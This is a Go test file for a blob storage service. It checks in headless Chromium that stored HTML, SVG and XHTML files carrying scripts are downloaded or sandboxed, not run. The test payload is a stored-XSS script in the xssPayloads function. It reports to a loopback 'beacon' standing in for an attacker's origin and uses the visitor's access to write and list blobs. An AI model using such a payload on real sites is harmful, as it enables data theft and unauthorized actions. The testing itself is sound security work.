package server

import (
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcpblob/mcpblob/core/blobs"
)

// xssPayloads are stored documents whose script, if it ever ran, would set
// the title to "pwned" and call the beacon (and, on the service's origin,
// could call /v1 with the visitor's access).
func xssPayloads(beacon string) map[string][2]string {
	js := `document.title="pwned";fetch("` + beacon + `/hit",{mode:"no-cors"});` +
		`fetch("/v1/blobs/pwned/"+Date.now()+Math.random(),{method:"PUT",body:location.href});` +
		`fetch("/v1/blobs").then(r=>r.text()).then(t=>fetch("` + beacon + `/hit?list="+t.length,{mode:"no-cors"}))`
	return map[string][2]string{
		"x/page.html": {"text/html", `<!DOCTYPE html><html><head><title>stored</title></head><body><script>` + js + `</script></body></html>`},
		"x/img.svg": {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>stored</title>` +
			`<script><![CDATA[` + js + `]]></script></svg>`},
		"x/page.xhtml": {"application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>stored</title></head>` +
			`<body><script><![CDATA[` + js + `]]></script></body></html>`},
	}
}

// xssCase is one page Chromium opens (testdata/browser/stored-xss.mjs).
type xssCase struct {
	Name     string            `json:"name"`
	URL      string            `json:"url"`
	Method   string            `json:"method,omitempty"`
	Headers  map[string]string `json:"headers,omitempty"`
	PostData string            `json:"postData,omitempty"`
	Mode     string            `json:"mode"`
}

// xssResult is what Chromium saw.
type xssResult struct {
	Name, Title, Origin, Error string
	Download                   bool
	Hits                       int
}

// TestStoredContentChromium stores HTML, SVG and XHTML with scripts through
// PUT /v1/blobs and opens each in headless Chromium on the service's own
// origin through GET /v1/blobs, a /d link and a direct resources/stream
// answer (a POST that Playwright sends for the navigation). The browser
// downloads every one and no script runs (title unchanged, no beacon hit);
// with Content-Disposition dropped, the sandbox CSP alone keeps the
// script from running (opaque origin); and, as the control, the same bytes
// without the safety headers do run, so the test can see a script run.
func TestStoredContentChromium(t *testing.T) {
	parallel(t)
	if testing.Short() {
		t.Skip("skipped in -short mode")
	}
	node, nodeDir := chromiumTools(t)
	beacon, hits := startBeacon(t)
	st := newLocalStore(t)
	c := newBPClient(t, Options{Backend: st, Blobs: blobs.Options{StreamMode: blobs.StreamDirect}})
	var cases []xssCase
	for key, p := range xssPayloads(beacon) {
		if r := c.put(key, []byte(p[1]), map[string]string{"Content-Type": p[0]}); r.status != 201 {
			t.Fatalf("PUT %s: %d %s", key, r.status, r.body)
		}
		cases = append(cases, xssCasesFor(c, key)...)
	}
	results := runStoredXSS(t, node, nodeDir, beacon, cases)
	controls := 0
	for i, r := range results {
		tc := cases[i]
		ran := r.Title == "pwned" || r.Hits > 0
		switch tc.Mode {
		case "real":
			if ran || !r.Download {
				t.Errorf("%s: script ran %v (title %q, %d beacon hits), downloaded %v (%s)", r.Name, ran, r.Title, r.Hits, r.Download, r.Error)
			}
		case "inline":
			if ran || r.Download || r.Origin != "null" {
				t.Errorf("%s: script ran %v (title %q, %d hits), downloaded %v, origin %q: want a sandboxed document (%s)",
					r.Name, ran, r.Title, r.Hits, r.Download, r.Origin, r.Error)
			}
		case "bare":
			controls++
			if r.Title != "pwned" || r.Hits == 0 {
				t.Errorf("%s: the control's script did not run (title %q, %d hits): the test cannot see a script run (%s)", r.Name, r.Title, r.Hits, r.Error)
			}
		}
	}
	// Only the controls, on the service's origin, could write through /v1.
	if written := listAll(t, st); len(written) != len(xssPayloads(""))+controls {
		t.Errorf("stored after the pages ran: %v; want the %d payloads and one blob per control", written, len(xssPayloads("")))
	}
	t.Logf("%d pages opened; %d beacon hits, all from the %d controls", len(results), hits.Load(), controls)
}

// xssCasesFor lists the pages to open for key: each surface as the server
// answers it, without Content-Disposition, and bare (the control).
func xssCasesFor(c *bpClient, key string) []xssCase {
	stream := xssCase{URL: c.base + "/mcp", Method: "POST", PostData: `{"jsonrpc":"2.0","id":1,"method":"resources/stream","params":{"uri":` +
		jsonString(blobs.URI(key)) + `,"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28",` +
		`"io.modelcontextprotocol/clientCapabilities":{"resourceStreaming":{}}}}}`,
		Headers: map[string]string{"Content-Type": "application/json", "Accept": "application/json, text/event-stream",
			"MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "resources/stream"}}
	var out []xssCase
	for _, mode := range []string{"real", "inline"} {
		for surface, tc := range map[string]xssCase{
			"GET /v1/blobs":    {URL: c.base + "/v1/blobs/" + key},
			"/d link":          {URL: c.link(key, "")},
			"resources/stream": stream,
		} {
			tc.Name, tc.Mode = key+" "+surface+" "+mode, mode
			out = append(out, tc)
		}
	}
	return append(out, xssCase{Name: key + " GET /v1/blobs bare (control)", URL: c.base + "/v1/blobs/" + key, Mode: "bare"})
}

// startBeacon serves /hit (counted) and /count on a loopback port of its
// own, a second origin as an attacker's would be.
func startBeacon(t *testing.T) (string, *atomic.Int64) {
	var n atomic.Int64
	mux := http.NewServeMux()
	mux.HandleFunc("/hit", func(w http.ResponseWriter, _ *http.Request) { n.Add(1) })
	mux.HandleFunc("/count", func(w http.ResponseWriter, _ *http.Request) { w.Write([]byte(strconv.FormatInt(n.Load(), 10))) })
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: mux}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String(), &n
}

// runStoredXSS runs testdata/browser/stored-xss.mjs on cases.
func runStoredXSS(t *testing.T, node, nodeDir, beacon string, cases []xssCase) []xssResult {
	dir := t.TempDir()
	spec, _ := json.Marshal(cases)
	if err := os.WriteFile(filepath.Join(dir, "cases.json"), spec, 0o644); err != nil {
		t.Fatal(err)
	}
	out := runChromiumScript(t, node, nodeDir, 3*time.Minute, "testdata/browser/stored-xss.mjs",
		filepath.Join(dir, "cases.json"), beacon, filepath.Join(dir, "profile"))
	var results []xssResult
	if err := json.Unmarshal(out, &results); err != nil || len(results) != len(cases) {
		t.Fatalf("stored-xss.mjs printed %d results for %d cases: %v: %s", len(results), len(cases), err, out)
	}
	for _, r := range results {
		t.Logf("%-45s download=%-5v title=%-8q origin=%-24q hits=%d %s", r.Name, r.Download, r.Title, r.Origin, r.Hits, strings.TrimSpace(r.Error))
	}
	return results
}
